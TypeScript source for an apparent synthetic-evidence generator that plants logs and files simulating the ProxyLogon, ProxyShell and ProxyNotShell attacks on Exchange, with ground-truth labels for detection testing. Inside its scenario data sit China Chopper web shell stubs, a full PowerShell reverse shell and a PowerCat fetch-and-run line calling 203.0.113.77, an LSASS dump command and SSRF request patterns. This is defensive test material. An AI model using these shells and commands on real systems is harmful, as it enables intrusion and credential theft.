import type { Rng } from '../rng.js';
import { w3wpCommandLine, type Emitter } from './emit.js';
import type { PlantedRef } from './sink.js';
import { EX_WIN, type World } from './world.js';

/** Scenario names the generator knows. */
export const SCENARIOS = ['proxylogon', 'proxyshell', 'proxynotshell', 'benign'] as const;
/** A scenario name. */
export type ScenarioName = (typeof SCENARIOS)[number];

/** A file the scenario leaves on disk (relative path in the tree, content, time), with its ground truth if planted. */
export interface PlantedFile {
  path: string;
  content: Buffer;
  t: number;
  planted?: PlantedRef;
}

/** One scheduled attack action: emits its log records at time `t`. */
export interface ScheduledStep {
  t: number;
  run(em: Emitter): void;
}

/** What a scenario contributes: the server build, the start of its window, steps and files. */
export interface ScenarioPlan {
  build: [number, number, number, number];
  /** First day of the evidence window (UTC midnight, epoch ms). */
  start: number;
  steps: ScheduledStep[];
  files: PlantedFile[];
}

const ref = (step: string, title: string, cves: string[], techniques: string[]): PlantedRef => ({ step, title, cves, techniques });

const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

/** China Chopper's JScript stub as written into an OAB virtual directory URL. */
function chopperStub(param: string): string {
  return `<script language="JScript" runat="server">function Page_Load(){eval(Request["${param}"],"unsafe");}</script>`;
}

/** The OAB virtual directory settings file the CVE-2021-27065 reset writes (the web shell). */
function oabVdirDump(w: World, param: string): string {
  return [
    'Name                            : OAB (Default Web Site)',
    `Server                          : ${w.host}`,
    `InternalUrl                     : https://${w.fqdn}/OAB`,
    'InternalAuthenticationMethods   : {WindowsIntegrated}',
    `ExternalUrl                     : http://f/${chopperStub(param)}`,
    'ExternalAuthenticationMethods   : {}',
    'RequireSSL                      : False',
    'ExtendedProtectionTokenChecking : None',
    'PollInterval                    : 480',
    '',
  ].join('\r\n');
}

/** A PST-headed page: what New-MailboxExportRequest writes when abused (header `!BDN`, script in a message body). */
function pstShell(rng: Rng, param: string): Buffer {
  const head = Buffer.alloc(564);
  head.write('!BDN', 0, 'latin1');
  head.writeUInt16LE(0x4d53, 8); // wMagicClient "SM"
  head.writeUInt16LE(23, 10); // wVer: Unicode PST
  const filler = Buffer.alloc(4096);
  for (let i = 0; i < filler.length; i++) filler[i] = rng.int(0, 255);
  return Buffer.concat([head, filler, Buffer.from(`<script language="JScript" runat="server">function Page_Load(){eval(Request["${param}"],"unsafe");}</script>`, 'latin1'), filler]);
}

/** A minidump of LSASS: MDMP signature and the module list naming lsass.exe (UTF-16). */
function lsassDump(rng: Rng): Buffer {
  const head = Buffer.alloc(32);
  head.write('MDMP', 0, 'latin1');
  head.writeUInt16LE(0xa793, 4);
  const body = Buffer.alloc(8192);
  for (let i = 0; i < body.length; i++) body[i] = rng.int(0, 255);
  return Buffer.concat([head, body, Buffer.from('C:\\Windows\\System32\\lsass.exe\0C:\\Windows\\System32\\lsasrv.dll\0', 'utf16le'), body]);
}

/** A 7-Zip archive header followed by random (encrypted-looking) bytes. */
function sevenZip(rng: Rng, size: number): Buffer {
  const b = Buffer.alloc(size);
  Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04]).copy(b);
  for (let i = 32; i < size; i++) b[i] = rng.int(0, 255);
  return b;
}

const day = (iso: string): number => Date.parse(`${iso}T00:00:00Z`);

/** ProxyLogon with HAFNIUM-like follow-on (Microsoft's March 2021 description), on an unpatched E2016 CU18. */
function proxylogon(w: World, rng: Rng, start: number): ScenarioPlan {
  const t0 = start + 86_400_000 + 2 * 3600_000 + 37 * 60_000;
  const ip = '5.254.43.18';
  const ua = 'python-requests/2.25.1';
  const shell = `${rng.letters(8)}.aspx`;
  const shellWin = `C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\${shell}`;
  const owaShell = 'errorEE.aspx';
  const param = rng.letters(6);
  const canary = `${rng.hex(32)}.${rng.hex(8)}`;
  const be = `${w.fqdn}:444`;
  const ssrf = (em: Emitter, t: number, anchor: string, status: number, planted: PlantedRef, iis = true): void => {
    if (iis) em.iisFront({ t, method: 'POST', stem: '/ecp/y.js', query: '', user: '', cIp: ip, ua, status, taken: 120 }, planted);
    em.httpProxy('Ecp', t, { UrlStem: '/ecp/y.js', AuthenticationType: '', IsAuthenticated: false, AuthenticatedUser: '', AnchorMailbox: anchor, UserAgent: ua, ClientIpAddress: ip, HttpStatus: status, Method: 'POST', RoutingHint: 'X-BEResourceCookie', BackEndCookie: '' }, planted);
  };
  const T1190 = ['T1190'];
  const steps: ScheduledStep[] = [
    { t: t0, run: (em) => ssrf(em, t0, `ServerInfo~${be}/autodiscover/autodiscover.xml?#`, 200, ref('ssrf-autodiscover', 'SSRF probe to back-end autodiscover (no mailbox yet)', ['CVE-2021-26855'], T1190)) },
    { t: t0 + 4000, run: (em) => ssrf(em, t0 + 4000, `ServerInfo~${be}/mapi/emsmdb?#`, 200, ref('ssrf-mapi', 'SSRF to back-end MAPI to read the mailbox DN/SID', ['CVE-2021-26855'], T1190)) },
    { t: t0 + 9000, run: (em) => ssrf(em, t0 + 9000, `ServerInfo~${be}/ecp/proxyLogon.ecp?#`, 241, ref('ssrf-proxylogon', 'SSRF to /ecp/proxyLogon.ecp forging an admin session', ['CVE-2021-26855'], T1190)) },
    {
      t: t0 + 15_000,
      run: (em) => {
        const t = t0 + 15_000;
        ssrf(em, t, `ServerInfo~${be}/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory#`, 200, ref('ssrf-set-oab', 'SSRF to ECP SetObject for the OAB virtual directory', ['CVE-2021-26855'], T1190), false);
        em.ecp(t + 200, `S:ActivityID=${rng.guid()};S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/${chopperStub(param)}'.Identity='${rng.guid()}';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=${canary}`, ref('ecp-set-vdir-script', 'ECP Set-OabVirtualDirectory with a China Chopper stub in ExternalUrl', ['CVE-2021-27065'], ['T1505.003']));
        em.managementCmdlet(t + 300, 'Set-OabVirtualDirectory', `-ExternalUrl "http://f/${chopperStub(param)}" -Identity "OAB (Default Web Site)"`, `${w.domain}/Users/Administrator`, ref('cmdlet-set-vdir-script', 'Set-OabVirtualDirectory cmdlet with script in ExternalUrl', ['CVE-2021-27065'], ['T1505.003']));
      },
    },
    {
      t: t0 + 25_000,
      run: (em) => {
        const t = t0 + 25_000;
        ssrf(em, t, `ServerInfo~${be}/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#`, 200, ref('ssrf-reset-oab', 'ECP Reset OAB virtual directory writing the config to aspnet_client', ['CVE-2021-27065'], T1190), false);
        em.managementCmdlet(t + 400, 'Remove-OabVirtualDirectory', `-Identity "${w.host}\\OAB (Default Web Site)" -Force "True"`, `${w.domain}/Users/Administrator`, ref('cmdlet-remove-vdir', 'Reset: OAB virtual directory removed', ['CVE-2021-27065'], ['T1505.003']));
        em.managementCmdlet(t + 900, 'New-OabVirtualDirectory', `-WebSiteName "Default Web Site" -Server "${w.host}" -Role "ClientAccess" -Path "${shellWin}"`, `${w.domain}/Users/Administrator`, ref('cmdlet-new-vdir', 'Reset: OAB virtual directory recreated', ['CVE-2021-27065'], ['T1505.003']));
        em.sysmonFile(t + 1000, 'c:\\windows\\system32\\inetsrv\\w3wp.exe', shellWin, ref('webshell-write-aspnet-client', 'w3wp writes the web shell into aspnet_client', [], ['T1505.003']));
      },
    },
    {
      t: t0 + 60_000,
      run: (em) =>
        em.oab(t0 + 60_000, 'Warning', `Download failed and temporary file '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed.`, ref('oab-write-outside', 'OAB generator wrote outside ClientAccess\\OAB', ['CVE-2021-26858'], ['T1505.003'])),
    },
    {
      t: t0 + 120_000,
      run: (em) => {
        const t = t0 + 120_000;
        em.win({ t, channel: 'Application', provider: 'MSExchange Unified Messaging', eventId: 1001, level: 2, data: ['An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type \'System.Windows.Data.ObjectDataProvider\' to type \'Microsoft.Exchange.UM.UMCore.CallData\'.'] }, ref('um-deserialisation', 'UM deserialisation error (InvalidCastException)', ['CVE-2021-26857'], ['T1068']));
        em.sysmonProcess(t + 50, CMD, 'cmd.exe /c whoami', `${EX_WIN}\\Bin\\UMWorkerProcess.exe`, `"${EX_WIN}\\Bin\\UMWorkerProcess.exe" -port 5066 -id 4321`, ref('um-spawn', 'UMWorkerProcess starts cmd.exe', ['CVE-2021-26857'], ['T1068']));
      },
    },
    { t: t0 + 300_000, run: (em) => em.iisFront({ t: t0 + 300_000, method: 'POST', stem: `/aspnet_client/system_web/${shell}`, query: '', user: '', cIp: ip, ua: 'antSword/v2.1', status: 200, taken: 340 }, ref('webshell-post', 'POST to the web shell in aspnet_client', [], ['T1505.003'])) },
    {
      t: t0 + 301_000,
      run: (em) =>
        em.sysmonProcess(t0 + 301_000, CMD, `cmd /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\"&whoami&echo [S]&cd&echo [E]`, W3WP, w3wpCommandLine('DefaultAppPool'), ref('chopper-recon', 'China Chopper command from w3wp', [], ['T1505.003', 'T1059.003'])),
    },
    {
      t: t0 + 420_000,
      run: (em) => {
        const t = t0 + 420_000;
        em.sysmonProcess(t, 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\windows\\temp\\lsass.dmp full', CMD, `cmd /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\"&rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\windows\\temp\\lsass.dmp full&echo [S]&cd&echo [E]`, ref('lsass-comsvcs', 'LSASS dumped with comsvcs.dll MiniDump', [], ['T1003.001']));
        em.sysmonFile(t + 900, 'C:\\Windows\\System32\\rundll32.exe', 'C:\\Windows\\Temp\\lsass.dmp', ref('lsass-dump-file', 'lsass.dmp written to Windows\\Temp', [], ['T1003.001']));
      },
    },
    { t: t0 + 600_000, run: (em) => em.sysmonProcess(t0 + 600_000, 'C:\\ProgramData\\7za.exe', 'C:\\ProgramData\\7za.exe a -t7z -mx5 -pHf2021 C:\\ProgramData\\it.7z C:\\ProgramData\\pst\\*.pst C:\\windows\\temp\\lsass.dmp', CMD, 'cmd /c C:\\ProgramData\\7za.exe a -t7z -mx5 -pHf2021 C:\\ProgramData\\it.7z C:\\ProgramData\\pst\\*.pst', ref('stage-7zip', '7-Zip staging into ProgramData', [], ['T1560.001'])) },
    { t: t0 + 700_000, run: (em) => em.sysmonProcess(t0 + 700_000, PS, `powershell -nop -c "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.77',443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$stream.Write(([text.encoding]::ASCII).GetBytes($sendback),0,$sendback.Length)}"`, CMD, 'cmd /c powershell -nop -c ...', ref('nishang', 'Nishang Invoke-PowerShellTcpOneLine reverse shell', [], ['T1059.001'])) },
    { t: t0 + 760_000, run: (em) => em.sysmonProcess(t0 + 760_000, PS, `powershell -c "IEX (New-Object System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1');powercat -c 203.0.113.77 -p 8443 -e powershell"`, CMD, 'cmd /c powershell -c ...', ref('powercat', 'PowerCat downloaded and connecting out', [], ['T1059.001'])) },
    { t: t0 + 900_000, run: (em) => em.sysmonProcess(t0 + 900_000, CMD, `cmd /c cd /d C:\\inetpub\\wwwroot\\aspnet_client\\system_web&attrib +h +s +r ${shell}&echo [S]&cd&echo [E]`, W3WP, w3wpCommandLine('DefaultAppPool'), ref('attrib-hide', 'Web shell hidden with attrib +h +s +r', [], ['T1564.001'])) },
    {
      t: t0 + 1_000_000,
      run: (em) => {
        const t = t0 + 1_000_000;
        em.sysmonFile(t, 'c:\\windows\\system32\\inetsrv\\w3wp.exe', `${EX_WIN}\\FrontEnd\\HttpProxy\\owa\\auth\\${owaShell}`, ref('webshell-write-owa-auth', 'Second web shell written to owa\\auth', [], ['T1505.003']));
        em.iisFront({ t: t + 60_000, method: 'POST', stem: `/owa/auth/${owaShell}`, query: '', user: '', cIp: ip, ua: 'antSword/v2.1', status: 200, taken: 210 }, ref('webshell-post-owa-auth', 'POST to the owa\\auth web shell', [], ['T1505.003']));
      },
    },
  ];
  const files: PlantedFile[] = [
    { path: `C/inetpub/wwwroot/aspnet_client/system_web/${shell}`, content: Buffer.from(oabVdirDump(w, param)), t: t0 + 26_000, planted: ref('file-webshell-aspnet-client', 'OAB settings dump with China Chopper in aspnet_client', ['CVE-2021-27065'], ['T1505.003']) },
    { path: `C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/${owaShell}`, content: Buffer.from(`<%@ Page Language="Jscript"%><%eval(Request.Item["${param}"],"unsafe");%>`), t: t0 + 1_000_000, planted: ref('file-webshell-owa-auth', 'China Chopper one-liner in owa\\auth', [], ['T1505.003']) },
    { path: 'C/Windows/Temp/lsass.dmp', content: lsassDump(rng), t: t0 + 421_000, planted: ref('file-lsass-dump', 'LSASS minidump on disk', [], ['T1003.001']) },
    { path: 'C/ProgramData/it.7z', content: sevenZip(rng, 20_000), t: t0 + 610_000, planted: ref('file-archive-programdata', '7-Zip archive staged in ProgramData', [], ['T1560.001']) },
  ];
  return { build: [15, 1, 2106, 2], start, steps, files };
}

/** ProxyShell on E2016 CU19 with only the March 2021 SU. */
function proxyshell(w: World, rng: Rng, start: number): ScenarioPlan {
  const t0 = start + 86_400_000 + 14 * 3600_000 + 5 * 60_000;
  const ip = '185.250.151.72';
  const ua = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36';
  const shell = `${rng.letters(16)}.aspx`;
  const shellUnc = `\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\${shell}`;
  const email = 'autodiscover/autodiscover.json%3F@evil.corp';
  const cat = `VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdBZG1pbmlzdHJhdG9yQGNvcnAuZXhhbXBsZVUsUy0xLTUtMjEt${rng.hex(24)}`;
  const adminUpn = `administrator@${w.domain}`;
  const ps = (step: string, title: string, cves: string[], techniques: string[]): PlantedRef => ref(step, title, cves, techniques);
  const steps: ScheduledStep[] = [
    { t: t0 - 3600_000, run: (em) => em.iisFront({ t: t0 - 3600_000, method: 'GET', stem: '/autodiscover/autodiscover.json', query: `@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.com`, user: '', cIp: '45.146.164.110', ua: 'Mozilla/5.0 zgrab/0.x', status: 401, taken: 15 }, ps('scan-401', 'ProxyShell scan answered 401', ['CVE-2021-34473'], ['T1190'])) },
    {
      t: t0,
      run: (em) => {
        const q = `@evil.corp/mapi/nspi/?&Email=${email}`;
        em.iisFront({ t: t0, method: 'POST', stem: '/autodiscover/autodiscover.json', query: q, user: '', cIp: ip, ua, status: 200, taken: 80 }, ps('ssrf-mapi-nspi', 'Autodiscover path confusion to /mapi/nspi (LegacyDN)', ['CVE-2021-34473'], ['T1190']));
        em.httpProxy('Autodiscover', t0, { UrlStem: '/autodiscover/autodiscover.json', UrlQuery: `?${q}`, AuthenticationType: '', IsAuthenticated: false, AuthenticatedUser: '', AnchorMailbox: `Smtp~SystemMailbox{bb558c35-97f1-4cb9-8ff7-d53741dc928c}@${w.domain}`, UserAgent: ua, ClientIpAddress: ip, HttpStatus: 200, Method: 'POST' }, ps('ssrf-mapi-nspi-proxy', 'HttpProxy: autodiscover.json routed to /mapi/nspi', ['CVE-2021-34473'], ['T1190']));
      },
    },
    { t: t0 + 3000, run: (em) => em.iisFront({ t: t0 + 3000, method: 'POST', stem: '/autodiscover/autodiscover.json', query: `@evil.corp/mapi/emsmdb?&Email=${email}`, user: '', cIp: ip, ua, status: 200, taken: 90 }) },
    {
      t: t0 + 8000,
      run: (em) =>
        em.iisFront({ t: t0 + 8000, method: 'POST', stem: '/autodiscover/autodiscover.json', query: `@evil.corp/powershell/?X-Rps-CAT=${cat}&Email=${email}`, user: '', cIp: ip, ua, status: 200, taken: 300 }, ps('ssrf-powershell', 'Autodiscover path confusion to /powershell with X-Rps-CAT', ['CVE-2021-34473', 'CVE-2021-34523'], ['T1190'])),
    },
    {
      t: t0 + 20_000,
      run: (em) => {
        const t = t0 + 20_000;
        em.managementCmdlet(t, 'New-ManagementRoleAssignment', `-Role "Mailbox Import Export" -User "${adminUpn}"`, `${w.domain}/Users/Administrator`, ps('role-grant', 'Mailbox Import Export role granted over the impersonated session', ['CVE-2021-34523'], ['T1098']));
        em.managementCmdlet(t + 30_000, 'New-MailboxExportRequest', `-Mailbox "${adminUpn}" -IncludeFolders "#Drafts#" -ContentFilter "(Subject -eq '${rng.letters(8)}')" -ExcludeDumpster "True" -FilePath "${shellUnc}"`, `${w.domain}/Users/Administrator`, ps('export-to-aspx', 'Mailbox exported to an .aspx under aspnet_client', ['CVE-2021-31207'], ['T1505.003']));
        em.cmdletLog(t + 30_000, `${w.domain}/Users/Administrator`, 'New-MailboxExportRequest', `-Mailbox "${adminUpn}" -IncludeFolders "#Drafts#" -FilePath "${shellUnc}"`, ps('export-to-aspx-cmdletlog', 'Cmdlet log: mailbox export to .aspx', ['CVE-2021-31207'], ['T1505.003']));
        em.sysmonFile(t + 45_000, `${EX_WIN}\\Bin\\MSExchangeMailboxReplication.exe`, `C:\\inetpub\\wwwroot\\aspnet_client\\${shell}`, ps('mrs-writes-aspx', 'MSExchangeMailboxReplication writes the .aspx', ['CVE-2021-31207'], ['T1505.003']));
        em.managementCmdlet(t + 60_000, 'Remove-MailboxExportRequest', `-Identity "${adminUpn}\\MailboxExport" -Confirm "False"`, `${w.domain}/Users/Administrator`, ps('remove-export', 'Export request removed without confirmation', ['CVE-2021-31207'], ['T1070']));
      },
    },
    { t: t0 + 200_000, run: (em) => em.iisFront({ t: t0 + 200_000, method: 'POST', stem: `/aspnet_client/${shell}`, query: 'exec_code=whoami', user: '', cIp: ip, ua, status: 200, taken: 150 }, ps('webshell-post', 'POST to the PST web shell', [], ['T1505.003'])) },
    { t: t0 + 201_000, run: (em) => em.sysmonProcess(t0 + 201_000, CMD, 'cmd.exe /c whoami', W3WP, w3wpCommandLine('DefaultAppPool'), ps('webshell-spawn', 'w3wp starts cmd.exe', [], ['T1505.003'])) },
  ];
  const files: PlantedFile[] = [{ path: `C/inetpub/wwwroot/aspnet_client/${shell}`, content: pstShell(rng, 'exec_code'), t: t0 + 65_000, planted: ref('file-pst-webshell', 'PST-headed .aspx web shell', ['CVE-2021-31207'], ['T1505.003']) }];
  return { build: [15, 1, 2176, 9], start, steps, files };
}

/** ProxyNotShell and OWASSRF on E2019 CU12 without the November 2022 SU. */
function proxynotshell(w: World, rng: Rng, start: number): ScenarioPlan {
  const t0 = start + 86_400_000 + 9 * 3600_000 + 12 * 60_000;
  const ip = '137.184.67.33';
  const victim = rng.pick(w.users);
  const user = `${w.netbios}\\${victim.sam}`;
  const chrome105 = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36';
  const steps: ScheduledStep[] = [
    {
      t: t0,
      run: (em) =>
        em.iisFront({ t: t0, method: 'GET', stem: '/autodiscover/autodiscover.json', query: `@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ&FooProtocol=Powershell`, user, cIp: ip, ua: 'python-requests/2.28.1', status: 200, taken: 60 }, ref('ssrf-autodiscover-powershell', 'Authenticated autodiscover SSRF naming PowerShell', ['CVE-2022-41040'], ['T1190'])),
    },
    {
      t: t0 + 5000,
      run: (em) => {
        const t = t0 + 5000;
        em.iisFront({ t, method: 'POST', stem: '/autodiscover/autodiscover.json', query: `@evil.com/powershell/?Email=autodiscover/autodiscover.json%3f@evil.com`, user, cIp: ip, ua: 'python-requests/2.28.1', status: 200, taken: 900 }, ref('ssrf-powershell', 'Autodiscover SSRF to remote PowerShell', ['CVE-2022-41040', 'CVE-2022-41082'], ['T1190']));
        em.rps(t + 800, { AuthenticatedUser: victim.upn, ClientIpAddress: `${ip} ${w.serverIp}`, HttpStatus: 200, CommandName: 'Get-Mailbox', ClientInfo: 'python-requests/2.28.1' }, ref('rps-python-client', 'Remote PowerShell session from a non-WinRM client', ['CVE-2022-41082'], ['T1059.001']));
      },
    },
    {
      t: t0 + 3600_000,
      run: (em) => {
        const t = t0 + 3600_000;
        em.iisFront({ t, method: 'POST', stem: `/owa/${victim.sam}@${w.domain}/powershell`, query: `clientVersion=15.2.1118.7`, user, cIp: ip, ua: chrome105, status: 200, taken: 1200 }, ref('owassrf', 'OWASSRF: POST /owa/<mailbox>/powershell', ['CVE-2022-41080', 'CVE-2022-41082'], ['T1190']));
        em.rps(t + 900, { AuthenticatedUser: victim.upn, ClientIpAddress: `${ip} ${w.serverIp}`, HttpStatus: 200, CommandName: 'New-OfflineAddressBook', ClientInfo: chrome105 }, ref('rps-owassrf', 'Remote PowerShell session with a browser ClientInfo', ['CVE-2022-41082'], ['T1059.001']));
        em.sysmonProcess(t + 2000, PS, `powershell.exe -nop -w hidden -c "Invoke-WebRequest -Uri http://203.0.113.90/a.txt -OutFile ${EX_WIN}\\FrontEnd\\HttpProxy\\owa\\auth\\errorFF.aspx"`, W3WP, w3wpCommandLine('MSExchangePowerShellAppPool'), ref('ps-spawn', 'PowerShell app pool starts powershell.exe', [], ['T1059.001', 'T1505.003']));
        em.sysmonFile(t + 4000, PS, `${EX_WIN}\\FrontEnd\\HttpProxy\\owa\\auth\\errorFF.aspx`, ref('webshell-write', 'Web shell written to owa\\auth', [], ['T1505.003']));
        em.iisFront({ t: t + 60_000, method: 'POST', stem: '/owa/auth/errorFF.aspx', query: '', user: '', cIp: ip, ua: chrome105, status: 200, taken: 200 }, ref('webshell-post', 'POST to the owa\\auth web shell', [], ['T1505.003']));
      },
    },
  ];
  const files: PlantedFile[] = [
    { path: 'C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/errorFF.aspx', content: Buffer.from('<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>'), t: t0 + 3604_000, planted: ref('file-webshell', 'China Chopper one-liner in owa\\auth', [], ['T1505.003']) },
  ];
  return { build: [15, 2, 1118, 7], start, steps, files };
}

/** The plan of a scenario (benign: no steps, a patched build). */
export function planScenario(name: ScenarioName, w: World, rng: Rng): ScenarioPlan {
  switch (name) {
    case 'proxylogon':
      return proxylogon(w, rng, day('2021-03-01'));
    case 'proxyshell':
      return proxyshell(w, rng, day('2021-08-12'));
    case 'proxynotshell':
      return proxynotshell(w, rng, day('2022-09-26'));
    case 'benign':
      return { build: [15, 1, 2106, 13], start: day('2021-03-01'), steps: [], files: [] };
  }
}
